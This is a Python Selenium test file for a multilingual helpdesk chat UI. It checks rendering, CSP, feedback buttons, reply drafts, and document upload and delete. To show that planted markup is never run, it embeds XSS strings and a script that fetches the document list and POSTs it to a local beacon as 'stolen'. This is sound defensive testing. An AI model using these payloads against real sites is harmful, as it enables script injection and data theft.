"""The chat page in a real headless Chromium (Debian's chromium + chromedriver, installed by .ci/run).

Asks a question in Bulgarian, waits for the answer with a numbered source, saves a screenshot, and checks that
markup planted in a document is shown as text, not executed; that the UI works under its Content-Security-Policy;
and that an uploaded HTML original with a script never runs it on the helpdesk's origin. Then each tab as staff
and providers use it (grouped, one page load per tab): the chat's working state, rendering, feedback toggles,
Clear, empty filters and unserved languages; the draft and its .txt/.eml downloads; the documents table, a refused
upload and a confirmed delete. Screenshots go to HELPDESK_SCREENSHOT_DIR (the README's are in docs/screenshots).
"""

from __future__ import annotations

import http.server
import os
import threading
import time
from pathlib import Path

import httpx
import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as EC
from selenium.webdriver.support.ui import WebDriverWait

from tests.conftest import ROOT
from tests.service.conftest import ADMIN_KEY

SCREENSHOT_DIR = Path(os.environ.get("HELPDESK_SCREENSHOT_DIR", ROOT / "data" / "screenshots"))


def ask(browser, url: str, question: str, expect: str) -> str:
    browser.get(url)
    box = WebDriverWait(browser, 60).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "#question textarea")))
    box.send_keys(question)
    browser.find_element(By.CSS_SELECTOR, "#ask").click()
    WebDriverWait(browser, 120).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, "#chat"), expect))
    return browser.find_element(By.CSS_SELECTOR, "#chat").text


def test_bulgarian_question_gets_an_answer_with_a_numbered_source(browser, ui_url):
    chat = ask(browser, ui_url, "Какъв е максималният процент на съфинансиране за по-слабо развитите региони?",
               "Според документите")
    assert "85 %" in chat and "[1]" in chat
    link = browser.find_element(By.CSS_SELECTOR, "#chat a[href*='/v1/documents/']")
    assert "#page=" in link.get_attribute("href") or "/file" in link.get_attribute("href")
    SCREENSHOT_DIR.mkdir(parents=True, exist_ok=True)
    shot = SCREENSHOT_DIR / "chat-bg.png"
    browser.save_screenshot(str(shot))
    assert shot.stat().st_size > 10_000


def test_document_markup_renders_as_text(browser, ui_url):
    chat = ask(browser, ui_url, "How much is the kindergarten allowance in the planted guide per child?", "777 euro")
    assert "<img src=x onerror=alert(1)> Planted guide" in chat  # the title, shown literally
    chat = ask(browser, ui_url, "How much is the swimming allowance in the planted notice per child?", "555 euro")
    assert "<script>alert('x')</script>" in chat and "<b>bold</b>" in chat
    assert not browser.find_elements(By.CSS_SELECTOR, "#chat script, #chat img[src='x'], #chat b")


def csp_violations(browser) -> list[str]:
    return [entry["message"] for entry in browser.get_log("browser") if "Content Security Policy" in entry["message"]]


def test_the_ui_works_under_its_content_security_policy(browser, ui_url):
    """The questions above ran under the UI's CSP; nothing the page needed was refused by it."""
    response = httpx.get(ui_url)
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
    browser.get(ui_url)
    WebDriverWait(browser, 60).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "#question textarea")))
    assert csp_violations(browser) == []


class Beacon:
    """A listener on another loopback port: a script that ran would call it (and nothing else does)."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self):
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = _record

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def scripted_original(beacon_url: str) -> str:
    return (f"<html><head><title>Regional childcare grant</title></head><body><h1>Regional childcare grant</h1>"
            f"<p>The regional childcare grant pays 318 euro per child per month.</p>"
            f"<script>document.title = 'PWNED'; new Image().src = '{beacon_url}/script';"
            f"fetch('/v1/documents').then(r => r.text()).then(t => fetch('{beacon_url}/stolen', "
            f"{{method: 'POST', body: t, mode: 'no-cors'}}));</script>"
            f"<img src=x onerror=\"new Image().src = '{beacon_url}/onerror'\"></body></html>")


@pytest.mark.parametrize("name", ["childcare-grant.html", "childcare-grant.md", "childcare-grant.txt"])
def test_an_uploaded_original_with_a_script_never_runs_it(browser, ui_url, name):
    beacon = Beacon()
    try:
        page = scripted_original(beacon.url)
        uploaded = httpx.post(f"{ui_url}v1/documents", headers={"Authorization": f"Bearer {ADMIN_KEY}"},
                              files={"file": (name, page.encode())}, timeout=120)
        assert uploaded.status_code == 201, uploaded.text
        doc_id = uploaded.json()["document"]["doc_id"]
        browser.get(ui_url)
        # As a citation link opens it. Not browser.get: a download never finishes loading a page, get would wait.
        browser.execute_script("window.location.href = arguments[0]", f"{ui_url}v1/documents/{doc_id}/file")
        time.sleep(3)  # what a script would need to call out
        assert beacon.hits == [] and "PWNED" not in browser.title
        if not name.endswith(".html"):  # shown, as text: the markup is there to read, not run
            assert "<script>" in browser.find_element(By.TAG_NAME, "body").text
        httpx.delete(f"{ui_url}v1/documents/{doc_id}", headers={"Authorization": f"Bearer {ADMIN_KEY}"}, timeout=60)
    finally:
        beacon.close()


# --- The chat, draft and documents tabs as staff and providers use them; each test saves its tab's screenshot. ---

def open_tab(browser, name: str) -> None:
    WebDriverWait(browser, 60).until(EC.element_to_be_clickable(
        (By.XPATH, f"//button[@role='tab'][contains(., '{name}')]"))).click()


def screenshot(browser, name: str) -> Path:
    """The page as a small palette PNG, for the README ("What it looks like")."""
    from PIL import Image

    SCREENSHOT_DIR.mkdir(parents=True, exist_ok=True)
    path = SCREENSHOT_DIR / name
    browser.save_screenshot(str(path))
    Image.open(path).convert("RGB").quantize(colors=64).save(path, optimize=True)
    return path


def feedback_rows(data_dir: Path, columns: str = "rating, question") -> list[tuple]:
    import sqlite3

    path = data_dir / "feedback.sqlite"
    if not path.is_file():
        return []
    with sqlite3.connect(path) as db:
        return [tuple(row) for row in db.execute(f"SELECT {columns} FROM feedback ORDER BY id")]


# Clicks "Disliked" and, as soon as the page shows "Dislike" again, clicks it: the second click comes while the
# first is still on its way to the server.
QUICK_UNDO_AND_REDO = """const done = arguments[arguments.length - 1];
const last = label => [...document.querySelectorAll(`#chat button[aria-label='${label}']`)].pop();
last('Disliked').click();
const redo = () => last('Dislike') ? (last('Dislike').click(), done()) : requestAnimationFrame(redo);
redo();"""


def wait_for(browser, check, timeout: float = 60):
    return WebDriverWait(browser, timeout).until(lambda _: check())


def chat_text(browser) -> str:
    return browser.find_element(By.CSS_SELECTOR, "#chat").text


def send(browser, question: str, expect: str) -> None:
    box = browser.find_element(By.CSS_SELECTOR, "#question textarea")
    box.send_keys(question)
    browser.find_element(By.CSS_SELECTOR, "#ask").click()
    WebDriverWait(browser, 120).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, "#chat"), expect))
    wait_for(browser, lambda: browser.find_element(By.CSS_SELECTOR, "#ask").is_enabled())


def choose(browser, elem_id: str, value: str) -> None:
    """Pick `value` in a Gradio dropdown, as a user does: type it, take the first match."""
    from selenium.webdriver.common.keys import Keys

    box = browser.find_element(By.CSS_SELECTOR, f"#{elem_id} input")
    box.click()
    box.send_keys(Keys.CONTROL, "a")
    box.send_keys(value)
    box.send_keys(Keys.ENTER)
    wait_for(browser, lambda: box.get_attribute("value") == value, 10)


# Records whether the question and a working state with a disabled Ask button were ever on screen together.
WATCH_WORKING = """
window.sawWorking = false;
new MutationObserver(() => {
  const chat = document.querySelector('#chat'), ask = document.querySelector('#ask');
  if (chat && chat.innerText.includes(arguments[0]) && chat.innerText.includes('Working') && ask.disabled)
    window.sawWorking = true;
}).observe(document.body, {subtree: true, childList: true, characterData: true, attributes: true});
"""


def test_chat_working_state_rendering_feedback_toggles_and_clear(browser, ui_server):
    url, data_dir = ui_server
    browser.get(url)
    WebDriverWait(browser, 60).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "#question textarea")))
    browser.find_element(By.CSS_SELECTOR, "#ask").click()  # an empty question is answered with a message
    WebDriverWait(browser, 30).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, "#chat-status"),
                                                                      "Type a question first."))
    question = "Какъв е максималният процент на съфинансиране за по-слабо развитите региони?"
    browser.execute_script(WATCH_WORKING, question)
    send(browser, question, "Според документите")
    assert browser.execute_script("return window.sawWorking") is True
    chat = chat_text(browser)
    assert "Източници:" in chat and "§" not in chat and "p. " not in chat
    # the sources sit right under the answer: no more than a line's gap between the last quote and the heading
    gap = browser.execute_script("""
        const heading = [...document.querySelectorAll('#chat strong')].pop();
        const before = heading.closest('p').previousElementSibling;
        return heading.getBoundingClientRect().top - before.getBoundingClientRect().bottom;""")
    assert gap < 40, gap

    # Like, Like again (undo), Dislike: one "down" row for exactly this question
    like = lambda label: browser.find_elements(By.CSS_SELECTOR, f"#chat button[aria-label='{label}']")[-1].click()
    like("Like")
    wait_for(browser, lambda: feedback_rows(data_dir) == [("up", question)], 20)
    like("Liked")
    wait_for(browser, lambda: feedback_rows(data_dir) == [], 20)
    like("Dislike")
    wait_for(browser, lambda: feedback_rows(data_dir) == [("down", question)], 20)
    # Taken back and given again at once: both clicks are stored, in order, none dropped while another runs
    first = feedback_rows(data_dir, "created")
    browser.execute_async_script(QUICK_UNDO_AND_REDO)
    wait_for(browser, lambda: feedback_rows(data_dir) == [("down", question)]
             and feedback_rows(data_dir, "created") != first, 20)

    send(browser, "What is on the practical checklist for applying?", "According to the documents")
    assert browser.find_elements(By.CSS_SELECTOR, "#chat ol li")  # a quoted "2. Read the call" stays item 2
    screenshot(browser, "chat.png")

    # Clear starts a new conversation: no earlier turns, and feedback binds to the answer now shown
    browser.find_element(By.CSS_SELECTOR, "#chat button[aria-label='Clear']").click()
    wait_for(browser, lambda: question not in chat_text(browser), 20)
    german = "Ist die Mehrwertsteuer bei ESF+ Projekten förderfähig?"
    send(browser, german, "Laut den Dokumenten")
    assert "съфинансиране" not in chat_text(browser) and "checklist" not in chat_text(browser)
    like("Like")
    wait_for(browser, lambda: feedback_rows(data_dir) == [("down", question), ("up", german)], 20)

    # A date with an ordinal day is quoted whole: the sentence is not cut at "10."
    estonian = "Millal esitab omavalitsus päevakeskuse kohandamise taotluse?"
    send(browser, estonian, "Dokumentide järgi")
    assert "esitab 10. jaanuaril 2027 taotluse" in chat_text(browser), chat_text(browser).split(estonian)[-1]
    browser.get("about:blank")


def test_chat_names_the_filter_that_empties_the_results_and_the_language_it_does_not_serve(browser, ui_url):
    browser.get(ui_url)
    WebDriverWait(browser, 60).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "#question textarea")))
    browser.find_element(By.CSS_SELECTOR, "#country textarea, #country input").send_keys("EE")
    choose(browser, "doc-type", "regulation")
    send(browser, "What is the co-financing rate for less developed regions?", "cannot answer")
    status = browser.find_element(By.CSS_SELECTOR, "#chat-status").text
    assert "No document matches Country = EE together with Document type = regulation" in status
    assert not [b for b in browser.find_elements(By.CSS_SELECTOR, "#drop-country") if b.is_displayed()]
    browser.find_element(By.CSS_SELECTOR, "#drop-doc_type").click()  # dropped, and the question asked again
    wait_for(browser, lambda: chat_text(browser).count("less developed regions?") == 2
             and browser.find_element(By.CSS_SELECTOR, "#ask").is_enabled() and "Working" not in chat_text(browser))
    assert "No document matches" not in browser.find_element(By.CSS_SELECTOR, "#chat-status").text
    assert browser.find_element(By.CSS_SELECTOR, "#doc-type input").get_attribute("value") == "auto"

    browser.find_element(By.CSS_SELECTOR, "#chat button[aria-label='Clear']").click()
    japanese = "低開発地域に対するESF+の共同融資率の上限は何パーセントですか？"
    send(browser, japanese, "Japanese is not one of the languages")
    assert "Bulgarian" in chat_text(browser) and "[1]" not in chat_text(browser)
    choose(browser, "answer-language", "en")
    send(browser, japanese, "According to the documents")  # answered once a served language is chosen
    browser.get("about:blank")


# Sets a box's text as a script would, past its maxlength (which stops only typing), and tells Gradio it changed.
SET_BOX_TEXT = """
const box = document.querySelector(arguments[0]);
box.value = arguments[1];
box.dispatchEvent(new Event('input', {bubbles: true}));
"""


def test_past_the_input_budget_the_ui_refuses_naming_the_limit(browser, ui_url):
    """The boxes stop typing at the budget; a page that sends more anyway is refused by the server, naming it."""
    from common.settings import InputSettings

    budget = InputSettings()  # the server's: ui_server runs with the default budget
    words = "Which costs are eligible under ESF+ in less developed regions? "
    browser.get(ui_url)
    box = WebDriverWait(browser, 60).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "#question textarea")))
    assert box.get_attribute("maxlength") == str(budget.max_question_chars)
    too_long = (words * (budget.max_question_chars // len(words) + 2))[:budget.max_question_chars + 1]
    browser.execute_script(SET_BOX_TEXT, "#question textarea", too_long)
    browser.find_element(By.CSS_SELECTOR, "#ask").click()
    WebDriverWait(browser, 30).until(EC.text_to_be_present_in_element(
        (By.CSS_SELECTOR, "#chat-status"), f"the limit is {budget.max_question_chars}"),
        "the chat did not refuse a question past the budget")
    assert "eligible" not in chat_text(browser)  # not asked, not shown as a turn

    open_tab(browser, "Draft a reply")
    inquiry = WebDriverWait(browser, 30).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "#inquiry textarea")))
    assert inquiry.get_attribute("maxlength") == str(budget.max_inquiry_chars)
    browser.execute_script(SET_BOX_TEXT, "#inquiry textarea",
                           (words * (budget.max_inquiry_chars // len(words) + 2))[:budget.max_inquiry_chars + 1])
    browser.find_element(By.CSS_SELECTOR, "#make-draft").click()
    WebDriverWait(browser, 30).until(EC.text_to_be_present_in_element(  # the draft tab's message line (an alert)
        (By.CSS_SELECTOR, "#draft-status"), f"the limit is {budget.max_inquiry_chars}"),
        "the draft tab did not refuse an inquiry past the budget")


def test_draft_answers_each_question_and_downloads_the_edited_text(browser, ui_url, tmp_path):
    import email
    import email.policy
    import tempfile

    inquiry = ("Dobrý den,\n\njsme nezisková organizace v Brně. Jaká je maximální míra spolufinancování EU pro "
               "méně rozvinuté regiony? A do kdy musí být výdaje uhrazeny?\n\nS pozdravem\nJana Nováková\nCharita Brno")
    server_copies = lambda: {p for root in (Path(tempfile.gettempdir()), Path(tempfile.gettempdir()) / "gradio")
                             for p in root.glob("*/reply-draft.*")}
    before = server_copies()
    browser.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path)})
    browser.get(ui_url)
    open_tab(browser, "Draft a reply")
    notice = WebDriverWait(browser, 30).until(EC.visibility_of_element_located((By.CSS_SELECTOR, "#draft-notice")))
    assert "never stored on the server" in notice.text
    browser.find_element(By.CSS_SELECTOR, "#inquiry textarea").send_keys(inquiry)
    browser.find_element(By.CSS_SELECTOR, "#sender textarea").send_keys("Petr Svoboda\nRegionální helpdesk")
    browser.find_element(By.CSS_SELECTOR, "#make-draft").click()
    draft_box = browser.find_element(By.CSS_SELECTOR, "#draft textarea")
    WebDriverWait(browser, 120).until(lambda _: "85 %" in (draft_box.get_attribute("value") or ""))
    draft = draft_box.get_attribute("value")
    assert draft.startswith("Dobrý den, Jana Nováková,") and draft.endswith("S pozdravem\nPetr Svoboda\nRegionální helpdesk")
    assert "\n1. Jaká je maximální míra" in draft and "\n2. A do kdy musí být výdaje uhrazeny?" in draft
    assert draft.count("Zdroje:") == 1 and "\n[1] " in draft
    screenshot(browser, "draft.png")

    draft_box.send_keys(" Doplněno ručně.")  # what is downloaded is the box as edited
    edited = draft_box.get_attribute("value")
    browser.find_element(By.CSS_SELECTOR, "#draft-download").click()
    saved = tmp_path / "reply-draft.txt"
    WebDriverWait(browser, 30).until(lambda _: saved.is_file() and saved.stat().st_size > 0)
    assert saved.read_text(encoding="utf-8") == edited
    browser.find_element(By.CSS_SELECTOR, "#draft-download-eml").click()
    saved_eml = tmp_path / "reply-draft.eml"
    WebDriverWait(browser, 30).until(lambda _: saved_eml.is_file() and saved_eml.stat().st_size > 0)
    message = email.message_from_bytes(saved_eml.read_bytes(), policy=email.policy.default)
    assert message["Subject"].startswith("Re: Jaká je maximální míra spolufinancování")
    assert message.get_content().replace("\r\n", "\n").rstrip("\n") == edited
    assert server_copies() == before  # the files were made in the browser
    browser.get("about:blank")  # close the page's event stream, so the server can stop at once


def test_documents_table_refused_upload_and_confirmed_delete(browser, ui_url, tmp_path):
    browser.get(ui_url)
    open_tab(browser, "Documents")
    table = WebDriverWait(browser, 30).until(EC.visibility_of_element_located((By.CSS_SELECTOR, "#documents")))
    WebDriverWait(browser, 30).until(lambda _: "Planted guide" in table.text)
    assert "—" in table.text and "Chunks" in table.text
    browser.find_element(By.CSS_SELECTOR, "#admin-key input").send_keys(ADMIN_KEY)
    fake = tmp_path / "setup.pdf"
    fake.write_text("this is plain text, not a PDF")
    browser.find_element(By.CSS_SELECTOR, "#upload input[type=file]").send_keys(str(fake))
    WebDriverWait(browser, 60).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, "#upload-status"),
                                                                      "was not added"))
    status = browser.find_element(By.CSS_SELECTOR, "#upload-status").text
    assert status == "setup.pdf was not added: it is not a valid PDF."
    wait_for(browser, lambda: "setup.pdf" not in browser.find_element(By.CSS_SELECTOR, "#upload").text, 10)

    note = tmp_path / "respite-care.md"
    note.write_text("---\ntitle: Respite care note\nlanguage: en\n---\n\n# Respite care\n\nRespite care is funded.\n")
    browser.find_element(By.CSS_SELECTOR, "#upload input[type=file]").send_keys(str(note))
    WebDriverWait(browser, 120).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, "#upload-status"),
                                                                       "respite-care.md was added"))
    WebDriverWait(browser, 30).until(lambda _: "Respite care note" in table.text)
    screenshot(browser, "documents.png")
    browser.execute_script("""return [...document.querySelectorAll('#documents [role=gridcell]')]
        .find(e => e.textContent.trim() === 'Respite care note');""").click()
    WebDriverWait(browser, 30).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "#delete"))).click()
    WebDriverWait(browser, 30).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, "#delete-status"),
                                                                      "Delete “Respite care note”"))
    assert "Respite care note" in table.text  # nothing deleted before the confirmation
    browser.find_element(By.CSS_SELECTOR, "#confirm-delete").click()
    WebDriverWait(browser, 60).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, "#delete-status"),
                                                                      "Deleted “Respite care note”."))
    WebDriverWait(browser, 30).until(lambda _: "Respite care note" not in table.text)
    browser.get("about:blank")
